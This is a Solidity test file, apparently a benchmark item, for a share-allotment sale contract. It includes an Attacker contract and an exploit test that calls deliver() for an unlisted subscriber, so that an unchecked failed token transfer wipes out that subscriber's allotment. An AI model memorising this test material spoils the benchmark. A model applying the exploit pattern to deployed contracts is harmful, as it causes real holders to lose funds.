// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./ShareAllotment.sol";
import "@openzeppelin/contracts@3.4.2-solc-0.7/token/ERC20/ERC20.sol";

// assay-canary-8915d068-98b0-4a0a-a9c9-03e555b439fb

interface Vm {
    function deal(address account, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Share is ERC20("Share", "SHR") {
    address private registrar = msg.sender;
    mapping(address => bool) public listed;

    constructor() {
        _mint(msg.sender, 1_000e18);
    }

    function list(address who) external {
        require(msg.sender == registrar, "registrar");
        listed[who] = true;
    }

    function transfer(address to, uint256 amount) public override returns (bool) {
        if (!listed[to]) return false;
        return super.transfer(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address payable private constant FIRM = address(0xF1);
    address payable private constant ANA = address(0xA9A);
    address payable private constant BEN = address(0xBE9);
    uint256 private constant START = 1600000000;

    Share private shares;
    ShareAllotment private desk;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        shares = new Share();
        vm.prank(FIRM);
        desk = new ShareAllotment(shares, START + 10 days);
        shares.list(address(desk));
        shares.list(FIRM);
        shares.transfer(address(desk), 1_000e18);
        vm.deal(ANA, 10 ether);
        vm.deal(BEN, 10 ether);
        vm.prank(ANA);
        desk.subscribe{value: 4 ether}();
        vm.prank(BEN);
        desk.subscribe{value: 2 ether}();
        mallory = new Attacker(desk);
        vm.warp(START + 10 days);
        shares.list(BEN);
    }

    function test_Regular() public {
        desk.deliver(BEN);
        require(shares.balanceOf(BEN) == 200e18, "listed");
        shares.list(ANA);
        desk.deliver(ANA);
        require(shares.balanceOf(ANA) == 400e18 && desk.promised() == 0, "both");
        vm.startPrank(FIRM);
        desk.take();
        desk.unsold(FIRM);
        vm.stopPrank();
        require(FIRM.balance == 6 ether && shares.balanceOf(FIRM) == 400e18, "the rest");
        vm.warp(START + 5 days);
        vm.startPrank(FIRM);
        desk.transferOwnership(ANA);
        vm.stopPrank();
        vm.prank(ANA);
        desk.renounceOwnership();
    }

    function test_RefusesSubscribing() public {
        vm.expectRevert("!closes");
        new ShareAllotment(shares, block.timestamp);
        vm.startPrank(ANA);
        vm.expectRevert("!open");
        desk.subscribe{value: 1 ether}();
        vm.warp(START + 9 days);
        vm.expectRevert("!value");
        desk.subscribe();
        vm.expectRevert("!shares");
        desk.subscribe{value: 4.01 ether}();
        vm.expectRevert("!closed");
        desk.deliver(BEN);
        vm.stopPrank();
        vm.prank(FIRM);
        vm.expectRevert("!closed");
        desk.unsold(FIRM);
    }

    function test_RefusesTheRest() public {
        desk.deliver(BEN);
        vm.expectRevert("!allotted");
        desk.deliver(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        desk.take();
        vm.expectRevert("Ownable: caller is not the owner");
        desk.unsold(FIRM);
        vm.startPrank(FIRM);
        vm.expectRevert("!transfer");
        desk.unsold(address(this));
        desk.transferOwnership(address(shares));
        vm.stopPrank();
        vm.prank(address(shares));
        vm.expectRevert("!take");
        desk.take();
    }

    function exploit() public {
        mallory.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(deliverable() <= 200e18, "nothing lost");
    }

    function deliverable() public view returns (uint256 total) {
        address[2] memory all = [address(ANA), address(BEN)];
        for (uint256 i = 0; i < 2; i++) total += shares.balanceOf(all[i]) + desk.allotted(all[i]);
    }

    function target() public view returns (address) {
        return address(desk);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    ShareAllotment private desk;

    constructor(ShareAllotment d) {
        desk = d;
    }

    function run(address who) external {
        desk.deliver(who);
    }
}
